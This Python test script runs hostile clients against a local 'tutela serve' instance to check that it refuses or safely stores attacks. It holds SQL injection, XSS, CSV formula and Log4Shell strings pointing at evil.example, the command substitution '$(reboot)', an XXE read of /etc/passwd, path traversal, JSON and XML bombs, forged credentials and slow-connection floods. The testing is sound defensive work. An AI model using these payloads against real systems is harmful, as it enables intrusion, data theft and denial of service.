#!/usr/bin/env python3
"""Clients that want to harm, against the real `tutela serve`: requests that two readers could read differently, paths, slow and idle
connections, bodies that lie, bombs, texts that somebody might run, forged credentials, and people who do things at the wrong time.
After each group the service answers, the ledger is whole and doctor has no error.

usage: hostile.py [PROGRAM] [GROUP]...     (TUTELA_LONG: 10,000 idle connections, slowhttptest)
"""
import concurrent.futures
import csv
import io
import json
import os
import pathlib
import random
import re
import resource
import shutil
import socket
import subprocess
import sys
import time
import zipfile

from kit import ROOT, Kit, component, sbom

sys.path.insert(0, str(ROOT / "tests" / "support"))
sys.dont_write_bytecode = True
import client  # noqa: E402
import generated  # noqa: E402

EXAMPLE = ROOT / "examples" / "infusion-pump"
DEVICE = "larkspur-ip-200"
LONG = bool(os.environ.get("TUTELA_LONG"))
COUNTS = "/v1/findings/counts"

# Each is stored and given back as it is, or refused; none is run.
TEXTS = (
    "'; DROP TABLE device; --", '" OR 1=1 --', "%' UNION SELECT password FROM person --", "$$;SELECT pg_sleep(9);$$",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![x](javascript:alert(1))", "[x](data:text/html,<script>)", "</style><svg/onload=1>",
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", '=HYPERLINK("http://evil.example","x")', "${jndi:ldap://evil.example/x}",
    "{{7*7}}", "%s%s%n", "$(reboot)", "`reboot`", "../../../../etc/passwd", "\u202egnp.exe", "\U0001f489 é e\u0301 \u200b", "a\r\nSet-Cookie: x=1",
    "\u2028\u2029\ufeff", "\x7f\x01\x1f", "]]>", "&xxe;", "null", "true", "0", "\\", '"', "''")
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


class Scene:
    """A data folder with a device whose texts are hostile, and its service."""

    def __init__(self, kit):
        self.kit = kit
        self.data = kit.folder / "data"
        for arguments in (("admin", "init", self.data), ("push", EXAMPLE, "--to", self.data), ("push", hostile_device(kit), "--to", self.data, "--new-device")):
            done = kit.run(*arguments)
            kit.check(" ".join(map(str, arguments[:2])), done.returncode == 0, done.text, done.complaint)
        # beyond its own limit a service answers new connections 503
        self.service = client.Service(kit, self.data, "--stop-seconds", "3", "--connections", "12000")
        self.crowd = generated.Crowd(self.service, kit, self.data)
        self.maker = generated.Maker(self.service.document, random.Random(7), generated.World(self.data))
        self.reader = self.service.client(client.add_key(kit, self.data))
        self.writer = self.service.client(client.add_key(kit, self.data, "analyst"))

    def whole(self, group):
        """It is as well as before."""
        answer = self.service.client().get("/healthz")
        self.kit.check(f"{group}: /healthz answers", answer.status == 200, answer)
        self.kit.answers(f"{group}: the ledger is whole", self.kit.run("ledger", "verify", self.data), 0)
        done = self.kit.run("doctor", self.data)
        self.kit.check(f"{group}: doctor has no error", done.returncode == 0, done.text, done.complaint)

    def operation(self, name):
        return next((each for each in self.maker.operations if each.id == name), None)

    def connect(self, source=None):
        return socket.create_connection(("127.0.0.1", self.service.port), 30, source_address=(source, 0) if source else None)

    def raw(self, request, source=None):
        """All that comes back until the other side closes, or is silent for a moment."""
        with self.connect(source) as sock:
            got = b""
            try:
                sock.sendall(request)
                sock.settimeout(2)
                while len(got) < 1 << 20:
                    more = sock.recv(65536)
                    if not more:
                        break
                    got += more
                    if b"\r\n\r\n" in got and length_of(got) is not None and len(got) >= length_of(got):
                        break
            except (TimeoutError, ConnectionError):
                pass
            return got


def length_of(answer):
    """How long an answer is by its Content-Length."""
    head, _, _ = answer.partition(b"\r\n\r\n")
    match = re.search(rb"(?i)\r\ncontent-length: (\d+)", head)
    return len(head) + 4 + int(match[1]) if match else None


def status_of(answer):
    match = re.match(rb"HTTP/1\.[01] (\d{3})", answer)
    return int(match[1]) if match else None


def hostile_device(kit):
    """A folder whose title and components are what TEXTS has."""
    folder = kit.folder / "hostile"
    shutil.copytree(EXAMPLE, folder, ignore=shutil.ignore_patterns(".tutela*"))
    shutil.rmtree(folder / "decisions")
    device = folder / "device.yaml"
    text = device.read_text(encoding="utf-8").replace("family: Larkspur IP-200", "family: Hostile pump", 1)
    text = text.replace("title: Motor control and dose calculation", "title: \"=cmd|' /C calc'!A0 <script>alert(1)</script>\"", 1)
    text = text.replace("    released: 2026-06-15\n", "", 1)
    device.write_text(text.replace("00614141", "00614149"), encoding="utf-8")
    rows = [component(text, "1.1.1k", cpe="cpe:2.3:a:openssl:openssl:1.1.1k:*:*:*:*:*:*:*") for text in TEXTS if "\0" not in text]
    for row, number in zip(rows, range(len(rows))):
        row["bom-ref"] = f"c{number}"
    for path in folder.glob("*.cdx.json"):
        path.write_text(sbom(*rows), encoding="utf-8")
    return folder


# ---- groups


def smuggling(scene):
    """Every refused row of the table of the guard, against this service."""
    table = (ROOT / "tests" / "tables" / "http-guard.tsv").read_text(encoding="utf-8")
    faults, count = [], 0
    for line in table.splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        expected, text = line.split("\t", 1)
        wanted = re.findall(r"\d{3}", expected)
        if not wanted or min(wanted) < "400" or "{" in text:
            continue
        count += 1
        raw = unescaped(text.replace("HOST", r"Host: localhost\r\n").replace("END", r"\r\n").replace("/info", "/healthz").replace("/echo", COUNTS))
        answer = scene.raw(raw)
        statuses = [int(each) for each in re.findall(rb"HTTP/1\.[01] (\d{3}) ", answer)]
        if any(200 <= status < 300 or status == 500 for status in statuses):
            faults.append(f"{text}: {statuses}")
    scene.kit.check(f"smuggling: {count} requests that two readers could read differently are refused", count > 50 and not faults, *faults)


def unescaped(text):
    codes = {"r": "\r", "n": "\n", "t": "\t", "0": "\0", "\\": "\\"}
    return re.sub(r"\\(x[0-9a-fA-F]{2}|.)", lambda at: chr(int(at[1][1:], 16)) if at[1][0] == "x" and len(at[1]) == 3 else codes[at[1]],
                  text).encode("latin-1", "replace")


def paths(scene):
    tricks = (
        "/v1/devices/../../../etc/passwd", "/v1/devices/..%2f..%2fetc%2fpasswd", "/v1//devices", "//v1/devices", "/v1/devices/%2e%2e/status",
        "/v1/./devices", "/V1/devices", "/v1/devices/%00", "/v1/devices;x=1", "/v1/devices/%c0%ae%c0%ae/x", "/v1/devices/..;/status", "/v1\\devices",
        "/v1/devices%5c..", "/v1/devices/" + DEVICE + "%2freleases", "/v1/devices/" + DEVICE + "/", "/v1/devices/%252e%252e", "*",
        "http://evil.example/v1/devices", "/..", "/%", "/v1/devices?%00=1", "/v1/devices?filter=%ff", "/v1/devices#x", "/proc/self/environ",
        "/v1/devices/" + "x" * 7000, "/" + "a/" * 2000, "/assets/../../../etc/passwd", "/setup/../v1/devices", "/v1/" + "%2e" * 30)
    key = scene.reader.headers["Authorization"]
    faults = []
    for trick in tricks:
        answer = scene.raw(f"GET {trick} HTTP/1.1\r\nHost: localhost\r\nAuthorization: {key}\r\nConnection: close\r\n\r\n".encode())
        if not 400 <= (status_of(answer) or 400) < 500 or b"root:" in answer or DEVICE.encode() in answer.replace(trick.encode(), b""):
            faults.append(f"{trick[:80]}: {answer[:300]!r}")
    scene.kit.check(f"paths: {len(tricks)} tricks find nothing", not faults, *faults)


def headers(scene):
    base = "GET /v1/devices HTTP/1.1\r\nHost: localhost\r\n"
    rows = {
        "a thousand headers": "".join(f"X-{number}: y\r\n" for number in range(1000)),
        "one of 100 KiB": "X-Large: " + "y" * 102400 + "\r\n",
        "a cookie of 7 KiB": "Cookie: tutela=" + "y" * 7000 + "\r\n",
        "a thousand cookies": "Cookie: " + "; ".join(f"c{number}=1" for number in range(900)) + "\r\n",
        "200 of the same name": "Accept: text/csv\r\n" * 200,
    }
    for name, text in rows.items():
        statuses = {status_of(scene.raw((base + text + "\r\n").encode())) for _ in range(10)}
        scene.kit.check(f"headers: {name}", statuses <= {400, 401, 414, 431, None}, statuses)
    peer = scene.crowd.source()
    forged = {"X-Forwarded-For": "203.0.113.9", "X-Forwarded-Proto": "https", "X-Forwarded-Host": "evil.example", "Forwarded": "for=203.0.113.9;proto=https"}
    answer = scene.reader.call("GET", "/v1/devices", headers=forged, source=peer)
    lines = [line for line in scene.service.lines() if line.get("id") == answer.headers["X-Request-Id"]]
    scene.kit.check("headers: what an untrusted proxy says is not believed", answer.status == 200 and len(lines) == 1
                    and lines[0]["peer"] == peer and "Strict-Transport-Security" not in answer.headers, lines)
    other = scene.raw(b"GET /v1/devices HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    scene.kit.check("headers: another Host is misdirected", status_of(other) == 421, other)


def connections(scene):
    """Slow and idle clients hold nobody up."""
    count = 10000 if LONG else 400
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    count = min(count, hard - 200)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    kept = []
    starts = (b"", b"GET /v1/devices HTTP/1.1\r\nHost: localhost\r\nX-A: b\r\n",
              f"POST {COUNTS} HTTP/1.1\r\nHost: localhost\r\nAuthorization: {scene.reader.headers['Authorization']}\r\n"
              "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{".encode(), b"G")
    refused = 0
    for number in range(count):
        try:
            sock = scene.connect(f"127.3.{number // 200 % 250}.{1 + number % 200}")
            sock.sendall(starts[number % len(starts)])
            kept.append(sock)
        except OSError:
            refused += 1
    answers = [scene.reader.get("/v1/devices").status for _ in range(20)]
    alive = scene.service.client().get("/healthz").status
    scene.kit.check(f"connections: {count} idle and slow ones, and others are answered", answers == [200] * 20 and alive == 200 and refused < count / 10,
                    answers, alive, refused)
    for sock in kept:
        sock.close()
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    if LONG and shutil.which("slowhttptest"):
        slow_tool(scene)
    elif LONG:
        print("ok # SKIP slowhttptest is not installed")


def slow_tool(scene):
    """slowhttptest asks with a connection of its own whether the service can be had."""
    url = f"http://127.0.0.1:{scene.service.port}"
    rows = {"slow headers": ["-H", "-u", f"{url}/v1/devices"], "slow bodies": ["-B", "-u", f"{url}{COUNTS}"],
            "slow reading": ["-X", "-u", f"{url}/v1/openapi.json", "-w", "10", "-y", "20"]}
    for name, options in rows.items():
        done = subprocess.run(["slowhttptest", *options, "-c", "200", "-r", "100", "-i", "5", "-l", "40", "-p", "5"], capture_output=True, text=True,
                              check=False, timeout=300, stdin=subprocess.DEVNULL)
        said = re.sub(r"\x1b\[[0-9;]*[A-Za-z]", "", done.stdout)
        states = re.findall(r"service available:\s+(\w+)", said)
        scene.kit.check(f"connections: slowhttptest, {name}: always available", states and set(states) == {"YES"}, said[-1500:])


def bodies(scene):
    key = scene.reader.headers["Authorization"]
    writer = scene.writer.headers["Authorization"]

    def post(path, *lines, body=b"", who=key, method="POST", kind="application/json"):
        head = "\r\n".join([f"{method} {path} HTTP/1.1", "Host: localhost", f"Authorization: {who}", f"Content-Type: {kind}", *lines, "", ""])
        return scene.raw(head.encode() + body, scene.crowd.source())

    started = time.monotonic()
    two_gb = post("/v1/devices", f"Content-Length: {2 << 30}", body=b"a" * 1000, who=writer, kind="application/yaml")
    scene.kit.check("bodies: 2 GiB are refused before they are sent", status_of(two_gb) == 413 and time.monotonic() - started < 10, two_gb[:200])
    beyond = post("/v1/devices", f"Content-Length: {1 << 62}", who=writer)
    scene.kit.check("bodies: a length beyond all", status_of(beyond) in (400, 413), beyond[:200])
    endless = post(COUNTS, "Transfer-Encoding: chunked", body=b"".join(b"10000\r\n" + b" " * 65536 + b"\r\n" for _ in range(30)))
    scene.kit.check("bodies: chunks without end", status_of(endless) in (413, None), endless[:200])
    packed = post(COUNTS, "Content-Encoding: gzip", "Content-Length: 4", body=b"\x1f\x8b\x08\x00")
    scene.kit.check("bodies: a packed one is not unpacked", status_of(packed) in (400, 415), packed[:200])
    bombs = {
        "depth": b"[" * 200000, "depth of objects": b'{"a":' * 50000, "size": b'{"filters":["' + b"x" * 250000 + b'"]}',
        "many members": b"{" + b",".join(b'"k%d":1' % number for number in range(20000)) + b"}",
        "many items": b'{"filters":[' + b",".join([b'""'] * 60000) + b"]}", "keys twice": b'{"filters":[""],"filters":["kev:yes"]}',
        "a huge number": b'{"filters":' + b"9" * 100000 + b"}", "an exponent": b'{"filters":[1e400000000]}', "escapes": b'{"filters":["' + b"\\u0041" * 30000 + b'"]}',
        "half a surrogate": b'{"filters":["\\udc00"]}', "NUL": b'{"filters":["\\u0000"]}', "a filter of brackets": json.dumps({"filters": ["(" * 1900]}).encode(),
        "200 filters of the longest": json.dumps({"filters": ["text:" + "x" * 1900] * 120}).encode()}
    for name, body in bombs.items():
        started = time.monotonic()
        answer = scene.reader.call("POST", COUNTS, body, strict=False, headers={"Content-Type": "application/json"}, source=scene.crowd.source())
        # that it ends soon, not how soon: a bomb takes hours
        scene.kit.check(f"bodies: {name}", answer.status in (200, 400, 413, 422) and (answer.status != 200 or name.startswith("200 "))
                        and time.monotonic() - started < 30, answer.status, answer.body[:300])
    short = scene.connect(scene.crowd.source())
    short.sendall(f"POST {COUNTS} HTTP/1.1\r\nHost: localhost\r\nAuthorization: {key}\r\nContent-Length: 100\r\n\r\n{{}}".encode())
    short.close()
    if scene.operation("putSbom"):
        lying_sboms(scene)


def lying_sboms(scene):
    """SBOMs that are none, or too much."""
    release = scene.maker.world.ids["release"][0]
    seen = scene.reader.get(f"/v1/releases/{release}")
    rows = {"nothing": b"", "noise": os.urandom(50000), "brackets": b"[" * 1000000, "XML that refers to itself":
            b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><bom xmlns="http://cyclonedx.org/schema/bom/1.5">&c;</bom>',
            "XML that reads a file": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><bom xmlns="http://cyclonedx.org/schema/bom/1.5">&b;</bom>',
            "a version that there is not": b'{"bomFormat":"CycloneDX","specVersion":"99.9","version":1}', "a depth": b'{"bomFormat":"CycloneDX","a":' + b"[" * 100000}
    for name, body in rows.items():
        answer = scene.writer.call("PUT", f"/v1/releases/{release}/sbom", body, strict=False, source=scene.crowd.source(),
                                   headers={"Content-Type": "application/octet-stream", "If-Match": seen.headers["ETag"]})
        scene.kit.check(f"bodies: an SBOM of {name}", 400 <= answer.status < 500 and b"root:" not in answer.body, answer)
    again = scene.reader.get(f"/v1/releases/{release}")
    scene.kit.check("bodies: the release is as it was", again.json["version"] == seen.json["version"], seen, again)


def texts(scene):
    """Texts that somebody might run, in every string of every operation: stored and given back, or refused."""
    sent, statuses = {}, {}
    for operation in scene.maker.operations:
        if operation.method == "GET" or operation.media != "application/json":
            continue
        whole = json.loads(scene.maker.good(operation).body)
        for pointer, schema, _ in generated.places(operation.schema, whole):
            if "string" not in generated.kinds_of(schema) or "enum" in schema or "format" in schema:
                continue
            for text in TEXTS if LONG else scene.maker.rng.sample(TEXTS, 6):
                mark = f"mark{len(sent):05}"
                value = f"{text}{mark}"
                sent[mark] = value
                request = scene.maker.good(operation)
                request.body = generated.text_of(generated.put(json.loads(request.body), pointer, value[-schema.get("maxLength", 65536):]))
                status = send_fault(scene, operation, request)
                statuses[status] = statuses.get(status, 0) + 1
                if not isinstance(status, int) or status >= 500:
                    scene.kit.check(f"texts: {operation.id} {pointer} {text!r}", False, status)
    print(f"# texts: {statuses}")
    scene.kit.check(f"texts: {len(sent)} in all operations", sum(statuses.values()) == len(sent) and not [each for each in statuses if not isinstance(each, int)])
    read_back(scene, sent)


def send_fault(scene, operation, request):
    try:
        return scene.crowd.send(operation, request).status
    except client.Undocumented as undocumented:
        return str(undocumented)


def read_back(scene, sent):
    """Whatever can be read has the texts as they were sent; tables have no formulas."""
    broken, formulas, seen, kinds = [], [], 0, set()
    for operation in scene.maker.operations:
        if operation.method != "GET" or "event-stream" in str(operation.row["responses"]):
            continue
        for attempt in range(3 if operation.names else 1):
            request = scene.maker.good(operation)
            answer = scene.crowd.send(operation, request)
            if answer.headers.get("X-Content-Type-Options") != "nosniff" or (answer.headers.get("Content-Type", "").startswith(
                    "text/html") and "sandbox" not in answer.headers.get("Content-Security-Policy", "")):
                kinds.add(operation.id)
            if answer.status != 200 or answer.headers.get("Content-Type", "").split(";")[0] != "application/json":
                continue
            for text in generated.strings(answer.json):
                for mark in re.findall(r"mark\d{5}", text):
                    seen += 1
                    if mark in sent and sent[mark] not in text and text not in sent[mark]:
                        broken.append(f"{operation.id}: {text[:200]!r} is not {sent[mark]!r}")
            for kind in operation.row.get("x-formats", []):
                formulas += formulas_of(scene, operation, request, kind)
    scene.kit.check(f"texts: {seen} were given back as they were sent", not broken, *broken[:10])
    scene.kit.check("texts: no table has a formula", not formulas, *formulas[:10])
    scene.kit.check("texts: no answer is a page that runs anything", not kinds, kinds)
    names = {row["component"] for row in scene.reader.pages("/v1/findings", limit=1000, filter="device:hostile-pump")}
    missing = [text for text in TEXTS if text not in names]
    scene.kit.check("texts: names of components are given back as the SBOM has them", len(missing) < len(TEXTS) / 2 and "=cmd|' /C calc'!A0" in names
                    and "<script>alert(1)</script>" in names, missing)


def formulas_of(scene, operation, request, kind):
    media = {"csv": "text/csv", "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}[kind]
    request.headers["Accept"] = media
    answer = scene.crowd.send(operation, request)
    if answer.status != 200:
        return []
    if kind == "csv":
        return [f"{operation.id}: {cell!r}" for row in csv.reader(io.StringIO(answer.text, newline="")) for cell in row
                if cell.startswith(FORMULAS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
    with zipfile.ZipFile(io.BytesIO(answer.body)) as book:
        return [f"{operation.id}: {name}" for name in book.namelist() if name.endswith(".xml") and re.search(rb"<f[ >]", book.read(name))]


def credentials(scene):
    kit, service = scene.kit, scene.service
    key = scene.reader.headers["Authorization"].removeprefix("Bearer ")
    other = kit.folder / "foreign"
    kit.run("admin", "init", other)
    foreign = client.add_key(kit, other)
    changed = key[:-1] + ("0" if key[-1] != "0" else "1")
    revoked = client.add_key(kit, scene.data, "auditor")
    rows = json.loads(kit.run("admin", "key", "list", "--data", scene.data, "-f", "json").text)["keys"]
    kit.run("admin", "key", "revoke", next(row["id"] for row in rows if row["label"] == "auditor all"), "--data", scene.data)
    values = {"of another folder": foreign, "with another last digit": changed, "in capitals": key.upper(), "twice": f"{key}, {key}", "shortened": key[:-1],
              "lengthened": key + "0", "revoked": revoked, "with NUL": key + "%00", "empty": ""}
    for name, value in values.items():
        answer = service.client(value or None, **({} if value else {"Authorization": "Bearer "})).get("/v1/devices")
        kit.check(f"credentials: a key {name}", answer.status == 401, answer)
    both = service.client(key, **{"X-Api-Key": foreign}).get("/v1/devices")
    kit.check("credentials: two keys that differ", both.status == 401, both)
    if scene.crowd.people:
        sessions(scene)


def sessions(scene):
    good = scene.crowd.person("viewer")
    kit, cookie = scene.kit, good["Cookie"]
    name, _, token = cookie.partition("=")

    def asked(value, **more):
        return client.Client(scene.service, {"Cookie": value, **more}).get("/v1/devices").status

    kit.check("credentials: a session", asked(cookie) == 200)
    for shown, value in (("changed", cookie[:-1] + ("A" if cookie[-1] != "A" else "B")), ("twice, and another", f"{cookie}; {name}=" + "A" * len(token)),
                         ("of a longer name", f"__Host-{cookie}x"), ("in quotes", f'{name}="{token}"')):
        kit.check(f"credentials: a cookie {shown}", asked(value) == 401)
    elsewhere = scene.crowd.person("viewer", fresh=True)["Cookie"]
    kit.check("credentials: a session's cookie on another Host is nobody's", asked(elsewhere, Host="localhost") == 401)
    kit.check("credentials: and ends no other session", asked(cookie) == 200)


def states(scene):
    """People who do things at the wrong time."""
    kit, reader, writer = scene.kit, scene.reader, scene.writer
    if not scene.operation("putSbom"):
        print("# there is no putSbom yet")
        return
    release = next(row for row in reader.get("/v1/devices/hostile-pump/releases").json["items"] if not row["locked"])
    path = f"/v1/releases/{release['id']}"
    octets = {"Content-Type": "application/octet-stream"}
    text = (EXAMPLE / "infusion-pump.cdx.json").read_text(encoding="utf-8")
    tag = reader.get(path).headers["ETag"]
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        both = list(pool.map(lambda version: writer.call("PUT", f"{path}/sbom", text.replace('"5.1"', version), headers={**octets, "If-Match": tag}),
                             ('"5.2"', '"5.3"')))
    kit.check("states: of two uploads at once one is taken", sorted(answer.status for answer in both) in ([200, 412], [200, 409]), both)
    stale = writer.call("PUT", f"{path}/sbom", text, headers={**octets, "If-Match": tag})
    kit.check("states: the ETag of yesterday", (stale.status, stale.problem) == (412, "stale"), stale)
    moved = writer.call("PUT", f"{path}/state", {"state": "released"}, headers={"If-Match": reader.get(path).headers["ETag"]})
    kit.check("states: a release is released", moved.status == 200 and moved.json["locked"], moved)
    before = reader.get(f"{path}/sbom").body
    locked = writer.call("PUT", f"{path}/sbom", text, headers={**octets, "If-Match": reader.get(path).headers["ETag"]})
    kit.check("states: an SBOM for a locked release is refused", 400 <= locked.status < 500 and "lock" in locked.json["detail"]
              and reader.get(f"{path}/sbom").body == before, locked)
    removing(scene)


def removing(scene):
    """A device is deleted with open findings, and renamed while jobs run, where there are operations for that."""
    reader, writer, kit = scene.reader, scene.writer, scene.kit
    deleting = scene.operation("deleteDevice")
    if deleting:
        tag = reader.get(f"/v1/devices/{DEVICE}").headers.get("ETag")
        request = generated.Request(values={"device": DEVICE}, headers={"If-Match": tag} if tag else {})
        answer = scene.crowd.send(deleting, request)
        kit.check("states: a device with open findings is not deleted", answer.status in (409, 422) and answer.json["detail"], answer)
        kit.check("states: it is still there", reader.get(f"/v1/devices/{DEVICE}").status == 200)
    knowledge = [kit.folder / "one.kb", kit.folder / "two.kb"]
    kit.run("kb", "build", "-o", knowledge[0], ROOT / "data/starter/busybox.json")
    kit.run("kb", "build", "-o", knowledge[1], ROOT / "data/starter")
    folder = kit.folder / "renamed"
    shutil.copytree(EXAMPLE, folder, ignore=shutil.ignore_patterns(".tutela*"))
    device = folder / "device.yaml"
    text = device.read_text(encoding="utf-8")
    codes = []
    # what is the same in both is the common ground of later changes
    kit.check("states: what is pushed again is the same", kit.run("push", folder, "--to", scene.data).returncode == 0)
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        for number in range(3):
            job = pool.submit(kit.run, "admin", "knowledge", knowledge[number % 2], "--data", scene.data)
            device.write_text(text.replace("title: Motor control", f"title: Motor control {number}"), encoding="utf-8")
            codes.append(reader.get(f"/v1/devices/{DEVICE}").status)
            pushed = kit.run("push", folder, "--to", scene.data)
            codes += [pushed.returncode] + [pushed.complaint] * bool(pushed.returncode)
            given = job.result()
            # one that is older than the one before is refused
            kit.check(f"states: knowledge base {number} is taken or refused", given.returncode == 0 or "older" in given.complaint, given.complaint)
    kit.check("states: a device is changed while jobs run", codes == [200, 0] * 3, codes)


GROUPS = {each.__name__: each for each in (smuggling, paths, headers, connections, bodies, texts, credentials, states)}


def main():
    kit = Kit()
    if client.WHY_NOT:
        print(f"1..0 # SKIP {client.WHY_NOT}")
        return 0
    chosen = sys.argv[2:] or list(GROUPS)
    scene = Scene(kit)
    with scene.service as service:
        for name in chosen:
            GROUPS[name](scene)
            scene.whole(name)
        kit.check("it stops", service.stop() == 0)
        trouble = [line for line in service.lines() if line.get("status", 0) >= 500 and not line.get("refused")]
        kit.check("no request was an error of the service", not trouble, trouble[:5])
    return kit.done()


sys.exit(main())
